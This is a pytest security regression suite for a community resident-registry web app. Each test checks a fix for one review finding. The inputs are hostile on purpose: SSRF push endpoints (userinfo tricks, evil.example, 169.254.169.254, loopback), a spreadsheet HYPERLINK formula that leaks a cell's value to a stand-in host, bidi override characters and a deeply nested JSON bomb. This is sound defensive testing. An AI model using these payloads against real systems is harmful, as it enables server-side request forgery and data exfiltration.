"""Issue 9, findings 1, 3, 5, 6, 10, 13 and 14: each test attacks what the review
reproduced and fails on the code before the fix. Names carry the finding number."""
import csv
import io
import logging
import re
import socket
import threading
import time
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, text

from webapp.extensions import db
from webapp.models import (Household, PushSubscription, Resident, User, Visit)
from webapp.services import accounts, identity, importer, push, registry, residents

from .conftest import csrf_from
from .pushservice import PushService, Subscriber
from .test_import import _xlsx  # the same workbook helper

HEADER = list(importer.COLUMNS)


# ---- helpers ---------------------------------------------------------------

def _other_community():
    """A second community with one resident whose ID number the attacker knows."""
    other = registry.create_community("110105001099", "远方社区")
    grid = registry.save_grid(other, "远方网格")
    building = registry.save_building(grid, "远方1栋", "远方路1号")
    household = registry.save_household(building, "1", "101", "13800000001", [])
    victim = registry.save_resident(other, household, "户主", "远方居民", "F", None, "13700000002",
                                    identity.make_id("110105", date(1945, 3, 4), 321), [])
    db.session.commit()
    return other, household, victim


def _row(building="1栋", room="901", name="导入人", id_number="", unit="1", relation="户主", phone="",
         birth="1940-05-06"):
    return [building, unit, room, "13800138000", "李四,儿子,13900002222", name, "女", birth,
            id_number, phone, relation, ""]


def _upload(admin, data, name="households.xlsx"):
    return admin.post("/admin/import", data={"csrf_token": admin.csrf, "file": (io.BytesIO(data), name)},
                      content_type="multipart/form-data")


def _import(admin, rows):
    response = _upload(admin, _xlsx(rows))
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    token = response.headers["Location"].rsplit("/", 1)[1]
    return token, admin.get(f"/admin/import/{token}").get_data(as_text=True)


def _resident_form(household, **fields):
    data = {"household_id": household.id, "relation": "户主", "name": "新居民", "sex": "F",
            "birth_date": "", "phone": "", "id_number": ""}
    data.update(fields)
    return data


# ---- F1: cross-community takeover through import ---------------------------

def test_f1_import_never_touches_another_communitys_resident(as_user, world):
    other, far_household, victim = _other_community()
    admin = as_user("admin")
    token, page = _import(admin, [_row(name="冒名顶替", id_number=victim.id_number, phone="13911112222", birth="")])
    assert "文件没有错误" in page
    admin.post(f"/admin/import/{token}/commit", data={"csrf_token": admin.csrf})
    db.session.expire_all()
    victim = db.session.get(Resident, victim.id)
    assert (victim.name, victim.phone, victim.community_id) == ("远方居民", "13700000002", other.id)
    assert victim.current_residency.household_id == far_household.id
    # the importing community got its own, separate record
    mine = db.session.scalars(select(Resident).where(Resident.id_number == victim.id_number,
                                                     Resident.community_id == world.users["admin"].community_id)).all()
    assert [r.name for r in mine] == ["冒名顶替"]
    # and the victim's page stays out of reach
    assert admin.get(f"/admin/residents/{victim.id}/edit").status_code == 404


def test_f1_resident_form_does_not_reveal_ids_of_other_communities(as_user, world):
    _other, _h, victim = _other_community()
    admin = as_user("admin")
    household = world.grid1[0]
    response = admin.post("/admin/residents/new", data=dict(
        _resident_form(household, id_number=victim.id_number), csrf_token=admin.csrf))
    assert response.status_code == 302, response.get_data(as_text=True)[:800]
    # inside the community the duplicate is still refused
    again = admin.post("/admin/residents/new", data=dict(
        _resident_form(world.grid1[1], name="另一个", id_number=victim.id_number), csrf_token=admin.csrf))
    assert again.status_code == 400 and "已有居民使用这个身份证号" in again.get_data(as_text=True)


# ---- F3 and F13: push subscriptions -----------------------------------------

@pytest.fixture
def pushsvc(app, monkeypatch):
    monkeypatch.setitem(app.config, "PUSH_ALLOW_INSECURE_LOOPBACK", True)
    with app.app_context():
        service = PushService(push.public_key(app))
    yield service
    service.stop()


def _subscribe(client, body):
    return client.post("/api/push/subscribe", json=body, headers={"X-CSRFToken": client.csrf})


def _keys():
    return {"p256dh": "B" + "A" * 86, "auth": "c2VjcmV0c2VjcmV0c2VjcmV0"}


def test_f3_subscribe_refuses_ssrf_endpoints(as_user, world, app):
    assert app.config.get("PUSH_ALLOW_INSECURE_LOOPBACK") is not True  # the production default
    worker = as_user("worker1")
    for endpoint in ("http://127.0.0.1@127.0.0.2:8123/push/x",      # userinfo; really 127.0.0.2
                     "https://127.0.0.1@fcm.googleapis.com/fcm/send/x",
                     "https://fcm.googleapis.com@10.0.0.5/fcm/send/x",
                     "http://127.0.0.1:8123/push/x", "http://localhost:8123/push/x",
                     "http://fcm.googleapis.com/fcm/send/x",          # not https
                     "https://evil.example/push/x",                   # not a push service
                     "https://fcm.googleapis.com.evil.example/x",
                     "https://10.0.0.5/x", "https://[::1]/x", "https://169.254.169.254/latest",
                     "ftp://fcm.googleapis.com/x", "https:///x"):
        response = _subscribe(worker, {"endpoint": endpoint, "keys": _keys()})
        assert response.status_code == 400, endpoint
    assert db.session.scalar(select(func.count(PushSubscription.id))) == 0
    for endpoint in ("https://fcm.googleapis.com/fcm/send/abc", "https://updates.push.services.mozilla.com/wpush/v2/x",
                     "https://db5p.notify.windows.com/w/?token=x", "https://web.push.apple.com/QGx"):
        assert _subscribe(worker, {"endpoint": endpoint, "keys": _keys()}).status_code == 200, endpoint


def _listener():
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.setblocking(False)
    return sock


def _was_contacted(sock):
    try:
        conn, _addr = sock.accept()
    except BlockingIOError:
        return False
    conn.close()
    return True


def test_f3_sending_never_reaches_a_private_or_loopback_address(world, app, monkeypatch):
    """A host on the allowlist that resolves to loopback (DNS rebinding, a stale row): not contacted."""
    monkeypatch.setitem(app.config, "PUSH_SERVICE_HOSTS", ["localhost", "fcm.googleapis.com"])
    sock = _listener()
    port = sock.getsockname()[1]
    try:
        worker = world.users["worker1"]
        for endpoint in (f"https://localhost:{port}/push/a", f"http://127.0.0.1@127.0.0.1:{port}/push/b"):
            keys = Subscriber(endpoint).subscription()["keys"]
            db.session.add(PushSubscription(user_id=worker.id, endpoint=endpoint, **keys))
        db.session.commit()
        summary = push.fan_out([worker.id], {"title": "t", "body": "b", "url": "/"})
        assert summary["sent"] == 0
        assert not _was_contacted(sock)
    finally:
        sock.close()


def test_f3_redirects_are_not_followed_and_5xx_retries_are_bounded(as_user, world, pushsvc):
    worker = as_user("worker1")
    moved, down = pushsvc.new_subscriber(), pushsvc.new_subscriber()
    token = lambda s: s.endpoint.rsplit("/", 1)[1]  # noqa: E731
    for s in (moved, down):
        assert _subscribe(worker, s.subscription()).status_code == 200
    target = _listener()  # where a redirect would send the request (an internal service)
    pushsvc.behaviour[token(moved)] = [(307, {"Location": f"http://127.0.0.1:{target.getsockname()[1]}/x"})] * 10
    pushsvc.behaviour[token(down)] = [(503, {})] * 10
    started = time.monotonic()
    try:
        summary = push.fan_out([world.users["worker1"].id], {"title": "t", "body": "b", "url": "/"})
        assert not _was_contacted(target)                      # the redirect was not followed
    finally:
        target.close()
    assert time.monotonic() - started < 10
    assert summary == {"sent": 0, "gone": 0, "failed": 2}
    assert 10 - len(pushsvc.behaviour[token(moved)]) == 1      # asked once, not retried
    assert 10 - len(pushsvc.behaviour[token(down)]) <= 2       # one retry at most


def test_f3_subscriptions_per_user_are_capped_oldest_dropped(as_user, world, pushsvc, app):
    worker = as_user("worker1")
    phones = [pushsvc.new_subscriber() for _ in range(7)]
    for phone in phones:
        assert _subscribe(worker, phone.subscription()).status_code == 200
    kept = set(db.session.scalars(select(PushSubscription.endpoint)))
    cap = app.config["PUSH_MAX_PER_USER"]
    assert cap == 5 and kept == {p.endpoint for p in phones[-cap:]}


def test_f3_logout_removes_this_phones_subscription(as_user, world, pushsvc):
    phone_a, phone_b = as_user("worker1"), as_user("worker1")
    sub_a, sub_b = pushsvc.new_subscriber(), pushsvc.new_subscriber()
    assert _subscribe(phone_a, sub_a.subscription()).status_code == 200
    assert _subscribe(phone_b, sub_b.subscription()).status_code == 200
    csrf = csrf_from(phone_a.get("/settings").get_data(as_text=True))
    assert phone_a.post("/logout", data={"csrf_token": csrf}).status_code == 302
    db.session.expire_all()
    assert set(db.session.scalars(select(PushSubscription.endpoint))) == {sub_b.endpoint}


def test_f13_another_user_cannot_take_over_a_subscription(as_user, world, pushsvc):
    victim, attacker = as_user("worker1"), as_user("worker2")
    phone = pushsvc.new_subscriber()
    assert _subscribe(victim, phone.subscription()).status_code == 200
    stolen = {"endpoint": phone.endpoint, "keys": _keys()}
    response = _subscribe(attacker, stolen)
    assert response.status_code == 409 and response.json["error"] == "taken"
    db.session.expire_all()
    sub = db.session.scalar(select(PushSubscription))
    assert (sub.user_id, sub.p256dh) == (world.users["worker1"].id, phone.p256dh)
    # the attacker cannot delete it either
    attacker.post("/api/push/unsubscribe", json={"endpoint": phone.endpoint}, headers={"X-CSRFToken": attacker.csrf})
    assert db.session.scalar(select(func.count(PushSubscription.id))) == 1


def test_f13_a_shared_phone_moves_to_the_next_user_after_logout(as_user, world, pushsvc):
    first, phone = as_user("worker1"), pushsvc.new_subscriber()
    assert _subscribe(first, phone.subscription()).status_code == 200
    # same browser, same keys (the auth secret proves it): the next user may take it over
    second = as_user("worker2")
    assert _subscribe(second, phone.subscription()).status_code == 200
    db.session.expire_all()
    assert db.session.scalar(select(PushSubscription.user_id)) == world.users["worker2"].id


# ---- F5 and F6: exports -------------------------------------------------------

FORMULA = '=HYPERLINK("http://x/?"&A2,"详情")'


def _store_visit(as_user, world, note):
    worker = as_user("worker1")
    household = world.grid1[0]
    html = worker.get(f"/households/{household.id}/visits/new").get_data(as_text=True)
    uuid = re.search(r'name="uuid" value="([^"]+)"', html).group(1)
    data = {"csrf_token": worker.csrf, "uuid": uuid, "mode": "door", "note": note,
            "occurred_at": "2026-11-20T10:00"}
    response = worker.post(f"/households/{household.id}/visits", data=data)
    assert response.status_code == 302, response.get_data(as_text=True)[:800]
    return uuid


def _sheet_xml(data):
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_f5_formulas_are_neutralised_in_every_export(as_user, world):
    _store_visit(as_user, world, FORMULA)
    resident = world.grid1[0].current_residencies[0].resident
    resident.name = "+SUM(1,2)"
    world.grid1[0].emergency_contacts = [{"name": "@cmd", "relation": "-x", "phone": "13900002222"}]
    db.session.commit()
    admin = as_user("admin")
    for url, value in (("/admin/visits/export", FORMULA), ("/admin/export", "+SUM(1,2)")):
        xlsx = admin.get(url + ".xlsx")
        assert xlsx.status_code == 200
        assert "<f>" not in _sheet_xml(xlsx.data)
        cells = [c for row in load_workbook(io.BytesIO(xlsx.data)).active.iter_rows() for c in row]
        assert not [c for c in cells if c.data_type == "f"]
        assert "'" + value in [c.value for c in cells]
        rows = list(csv.reader(io.StringIO(admin.get(url + ".csv").data.decode("utf-8-sig"))))
        flat = [v for row in rows for v in row]
        assert "'" + value in flat
        assert not [v for v in flat if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_f5_quoted_cells_import_back_unchanged(as_user, world):
    admin = as_user("admin")
    resident = world.grid1[0].current_residencies[0].resident
    resident.name = "-李"
    db.session.commit()
    exported = admin.get("/admin/export.xlsx").data
    token, page = _import(admin, [list(r) for r in load_workbook(io.BytesIO(exported)).active
                                  .iter_rows(min_row=2, values_only=True)])
    admin.post(f"/admin/import/{token}/commit", data={"csrf_token": admin.csrf})
    db.session.expire_all()
    assert db.session.get(Resident, resident.id).name == "-李"


@pytest.mark.parametrize("bad", ["\x00", "\x0b", "\x1f"])
def test_f6_a_stored_control_character_does_not_break_the_exports(as_user, world, bad):
    if bad == "\x00" and db.engine.dialect.name == "postgresql":
        pytest.skip("PostgreSQL cannot store NUL in text at all")
    uuid = _store_visit(as_user, world, "看望")
    resident = world.grid1[0].current_residencies[0].resident
    with db.engine.begin() as conn:  # stored before the fix, or written around the app
        conn.execute(text("UPDATE visit SET note = :n WHERE uuid = :u"), {"n": f"水{bad}电", "u": uuid})
        conn.execute(text("UPDATE resident SET name = :n WHERE id = :i"), {"n": f"王{bad}五", "i": resident.id})
    admin = as_user("admin")
    for url, value in (("/admin/visits/export.xlsx", "水电"), ("/admin/export.xlsx", "王五")):
        response = admin.get(url)
        assert response.status_code == 200, url
        values = [c for row in load_workbook(io.BytesIO(response.data)).active.iter_rows(values_only=True)
                  for c in row]
        assert value in values
    for url in ("/admin/visits/export.csv", "/admin/export.csv"):
        assert admin.get(url).status_code == 200
    # and the visit can still be opened and amended
    worker = as_user("worker1")
    assert worker.get(f"/visits/{uuid}").status_code == 200
    assert worker.get(f"/households/{world.grid1[0].id}/visits/new?amends={uuid}").status_code == 200


@pytest.mark.parametrize("bad", ["\x00", "\x0b", "\x07", "\x7f"])
def test_f6_control_characters_are_refused_on_input(as_user, world, bad):
    admin = as_user("admin")
    household = world.grid1[0]
    before = db.session.scalar(select(func.count(Resident.id)))
    response = admin.post("/admin/residents/new", data=dict(
        _resident_form(household, name=f"王{bad}五"), csrf_token=admin.csrf))
    assert response.status_code == 400 and "不能包含控制字符" in response.get_data(as_text=True)
    response = admin.post(f"/admin/households/{household.id}/edit", data={
        "csrf_token": admin.csrf, "building_id": household.building_id, "unit": household.unit,
        "room": household.room, "phone": "", "contacts": "", "note": f"备注{bad}"})
    assert response.status_code == 400 and "不能包含控制字符" in response.get_data(as_text=True)
    response = admin.post(f"/admin/buildings/{household.building_id}/edit", data={
        "csrf_token": admin.csrf, "grid_id": household.building.grid_id, "name": household.building.name,
        "address": f"路{bad}1号"})
    assert response.status_code == 400
    buf = io.StringIO()
    csv.writer(buf).writerows([HEADER, _row(name=f"赵{bad}六")])
    response = _upload(admin, buf.getvalue().encode("utf-8"), "h.csv")
    assert "不能包含控制字符" in admin.get(response.headers["Location"]).get_data(as_text=True)
    db.session.expire_all()
    assert db.session.scalar(select(func.count(Resident.id))) == before
    assert bad not in db.session.get(Household, household.id).note


@pytest.mark.parametrize("bad", ["\x00", "\x0b", "\x1b"])
def test_f6_a_visit_note_with_a_control_character_is_refused(as_user, world, bad):
    worker = as_user("worker1")
    household = world.grid1[0]
    html = worker.get(f"/households/{household.id}/visits/new").get_data(as_text=True)
    uuid = re.search(r'name="uuid" value="([^"]+)"', html).group(1)
    response = worker.post(f"/households/{household.id}/visits", data={
        "csrf_token": worker.csrf, "uuid": uuid, "mode": "door", "note": f"水{bad}电",
        "occurred_at": "2026-11-20T10:00"})
    assert response.status_code == 400 and "控制字符" in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count(Visit.uuid)).where(Visit.uuid == uuid)) == 0


# ---- F10: field lengths and characters; inputs that answered 500 -------------

def test_f10_names_longer_than_the_column_are_refused_everywhere(as_user, world):
    admin = as_user("admin")
    before = db.session.scalar(select(func.count(Resident.id)))
    for name in ("长" * 51, "长" * 10000):
        response = admin.post("/admin/residents/new", data=dict(_resident_form(world.grid1[0], name=name),
                                                                csrf_token=admin.csrf))
        assert response.status_code == 400 and "最多50个字" in response.get_data(as_text=True)
    response = admin.post("/admin/grids", data={"csrf_token": admin.csrf, "name": "网" * 101})
    assert response.status_code == 400
    response = admin.post("/admin/users/new", data={"csrf_token": admin.csrf, "username": "u" * 51,
                                                   "name": "甲", "role": "worker", "password": "long-enough-1"})
    assert response.status_code == 400
    db.session.expire_all()
    assert db.session.scalar(select(func.count(Resident.id))) == before
    assert db.session.scalar(select(func.max(func.length(Resident.name)))) <= 50


def test_f10_import_preview_catches_what_the_database_would_refuse(as_user, world):
    admin = as_user("admin")
    rows = [_row(room="9" * 21), _row(room="902", name="长" * 51), _row(room="903", unit="1" * 21),
            _row(room="904", relation="关" * 21), _row(room="905", name="好人")]
    token, page = _import(admin, rows)
    reported = sorted(int(n) for n in re.findall(r"<tr><td>(\d+)</td>", page))
    assert reported == [2, 3, 4, 5]
    before = db.session.scalar(select(func.count(Resident.id)))
    admin.post(f"/admin/import/{token}/commit", data={"csrf_token": admin.csrf, "only_valid": "1"})
    db.session.expire_all()
    assert db.session.scalar(select(func.count(Resident.id))) == before + 1
    assert "导入完成" in admin.get(f"/admin/import/{token}").get_data(as_text=True)


def test_f10_a_failed_import_shows_a_plain_message_and_logs_the_details(as_user, world, monkeypatch, caplog):
    admin = as_user("admin")
    token, _page = _import(admin, [_row(name="秘密行数据")])

    def boom(*a, **k):
        raise RuntimeError('(psycopg.errors.StringDataRightTruncation) value too long [parameters: "秘密行数据"]')
    monkeypatch.setattr(importer, "write_rows", boom)
    with caplog.at_level(logging.ERROR):
        response = admin.post(f"/admin/import/{token}/commit", data={"csrf_token": admin.csrf})
    assert response.status_code in (302, 303)
    page = admin.get(f"/admin/import/{token}").get_data(as_text=True)
    assert "导入失败" in page
    assert "psycopg" not in page and "秘密行数据" not in page and "parameters" not in page
    assert "StringDataRightTruncation" in caplog.text


@pytest.mark.parametrize("bad", ["\u202e", "\u2066", "\u200b", "\ufeff", "\u200d"])
def test_f10_bidi_overrides_and_zero_width_characters_are_refused_in_names(as_user, world, bad):
    admin = as_user("admin")
    response = admin.post("/admin/residents/new", data=dict(_resident_form(world.grid1[0], name=f"张{bad}三"),
                                                            csrf_token=admin.csrf))
    assert response.status_code == 400 and "不可见" in response.get_data(as_text=True)
    response = admin.post("/admin/users/new", data={"csrf_token": admin.csrf, "username": "newworker",
                                                   "name": f"李{bad}四", "role": "worker",
                                                   "password": "long-enough-1"})
    assert response.status_code == 400
    _token, page = _import(admin, [_row(name=f"赵{bad}六")])
    assert "不可见" in page
    assert not db.session.scalar(select(User.id).where(User.username == "newworker"))


def test_f10_admin_forms_with_missing_or_garbage_fields_answer_400_or_404(as_user, world):
    admin = as_user("admin")
    h = world.grid1[0]
    posts = {
        "/admin/grids": [{}, {"parent_id": "abc", "name": "x"}, {"parent_id": "99999999999999999999"}],
        f"/admin/grids/{world.grids[0].id}/edit": [{}],
        "/admin/buildings/new": [{}, {"grid_id": "abc"}, {"grid_id": "1e9"}],
        f"/admin/buildings/{h.building_id}/edit": [{}, {"grid_id": "-1"}],
        "/admin/households/new": [{}, {"building_id": "x"}, {"building_id": str(h.building_id)}],
        f"/admin/households/{h.id}/edit": [{}, {"building_id": "99999999999999999999"}],
        "/admin/residents/new": [{}, {"household_id": "x"}, {"household_id": str(h.id)},
                                 {"household_id": str(h.id), "name": "甲", "sex": "X", "category": "999999999999999999999"}],
        "/admin/users/new": [{}, {"role": "worker"}, {"role": "worker", "name": "甲", "username": "x1"},
                             {"role": "resident", "name": "甲", "username": "x2", "password": "long-enough-1",
                              "resident_id": "99999999999999999999"}],
        "/admin/categories": [{}],
    }
    for url, forms in posts.items():
        for form in forms:
            response = admin.post(url, data=dict(form, csrf_token=admin.csrf))
            assert response.status_code in (400, 404), (url, form, response.status_code)


def test_f10_huge_ids_in_urls_answer_404(as_user, world):
    admin, worker = as_user("admin"), as_user("worker1")
    huge = "99999999999999999999"
    for client, url in ((worker, f"/households/{huge}"), (admin, f"/admin/residents/{huge}/edit"),
                        (admin, f"/admin/households/{huge}/edit"), (admin, f"/admin/users/{huge}/edit"),
                        (worker, f"/households/{huge}/visits/new"), (admin, f"/buildings/{huge}"),
                        (worker, f"/alerts/{huge}"), (worker, "/households/2147483648")):
        assert client.get(url).status_code == 404, url


def test_f10_deeply_nested_json_answers_400(as_user, world):
    worker = as_user("worker1")
    deep = "[" * 100000 + "]" * 100000
    for url in ("/api/sync", "/api/push/subscribe", "/api/push/unsubscribe"):
        response = worker.post(url, data=deep, content_type="application/json",
                               headers={"X-CSRFToken": worker.csrf})
        assert response.status_code == 400, (url, response.status_code)
        assert response.is_json


def test_f10_concurrent_joins_with_one_code_make_one_account(app, world):
    member = world.grid1[1].current_residencies[0].resident
    code = residents.invite(world.users["worker1"], member).code
    db.session.commit()
    clients = []
    for _ in range(12):
        c = app.test_client()
        c.csrf = csrf_from(c.get("/join").get_data(as_text=True))
        clients.append(c)
    barrier = threading.Barrier(len(clients))
    answers = [None] * len(clients)

    def join(i):
        barrier.wait()
        try:
            r = clients[i].post("/join", data={"csrf_token": clients[i].csrf, "code": code,
                                               "password": "secret-pass-1", "phone": f"1391234{i:04d}"})
            answers[i] = (r.status_code, r.get_data(as_text=True))
        except Exception as exc:  # an error escaping the app is a 500 for the user
            answers[i] = (500, repr(exc))

    threads = [threading.Thread(target=join, args=(i,)) for i in range(len(clients))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    statuses = sorted(s for s, _b in answers)
    assert statuses.count(302) == 1 and statuses.count(400) == len(clients) - 1, statuses
    for status, body in answers:
        if status == 400:
            assert "邀请码无效或已过期" in body or "已经有账号" in body
    db.session.expire_all()
    assert db.session.scalar(select(func.count(User.id)).where(User.resident_id == member.id)) == 1


# ---- F14: the resident's phone at /join, and the login namespace -------------

def _join(app, code, phone, password="secret-pass-1"):
    c = app.test_client()
    token = csrf_from(c.get("/join").get_data(as_text=True))
    return c.post("/join", data={"csrf_token": token, "code": code, "password": password, "phone": phone})


def test_f14_join_checks_the_phone_is_a_mobile_number(app, world):
    member = world.grid1[1].current_residencies[0].resident
    code = residents.invite(world.users["worker1"], member).code
    db.session.commit()
    for phone in ("12345", "010-12345678", "1380013800", "23800138000", "1380013800x", "138 0013 8000x"):
        response = _join(app, code, phone)
        assert response.status_code == 400 and "手机号" in response.get_data(as_text=True), phone
    assert not db.session.scalar(select(User.id).where(User.resident_id == member.id))
    assert _join(app, code, "13800138077").status_code == 302


def test_f14_login_names_never_collide(app, world):
    admin = world.users["admin"]
    staff = accounts.create_user(admin.community, "13912345678", "号码名", "worker", "long-enough-1")
    db.session.commit()
    member = world.grid1[1].current_residencies[0].resident
    code = residents.invite(world.users["worker1"], member).code
    db.session.commit()
    response = _join(app, code, staff.username)
    assert response.status_code == 400 and "已被其他账号使用" in response.get_data(as_text=True)
    # the other way round: a new account's username may not equal someone's phone
    with pytest.raises(accounts.AccountError):
        accounts.create_user(admin.community, world.users["worker1"].phone, "甲", "worker", "long-enough-1")
    # nor may an edited phone equal someone's username
    with pytest.raises(accounts.AccountError):
        accounts.set_phone(world.users["worker2"], staff.username)
    with pytest.raises(accounts.AccountError):
        accounts.set_phone(world.users["worker2"], world.users["worker1"].phone)
